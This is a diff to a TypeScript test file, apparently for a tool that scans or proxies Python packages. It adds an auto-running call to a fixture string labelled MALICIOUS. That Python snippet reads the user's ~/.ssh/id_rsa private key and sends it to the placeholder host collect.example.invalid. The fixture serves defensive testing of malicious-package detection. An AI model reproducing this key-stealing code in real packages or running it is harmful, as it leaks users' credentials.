@@ -16,11 +16,15 @@ import { isolatedPipEnv, runCommand } from '../helpers/packages.js';
 import { startTestUpstream, type TestUpstream } from '../helpers/upstream.js';
 import { buildWheel as buildTestWheel } from '../helpers/distributions.js';
 
-/** Inert: reads an SSH key and sends it in one function that nothing calls, to a host that does not resolve. */
+/**
+ * Inert: would read an SSH key and send it to a host that does not resolve (`.invalid`) when imported; the tests only
+ * download it, never import it.
+ */
 const MALICIOUS = `import os, socket
 def grab():
     key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
     s = socket.socket(); s.connect(("collect.example.invalid", 443)); s.sendall(key)
+grab()
 `;
 
 const FAST_PRESCAN = { releases: 3, filesPerRelease: 4, maxBytes: 50 * 1024 * 1024, waitMs: 20_000 };
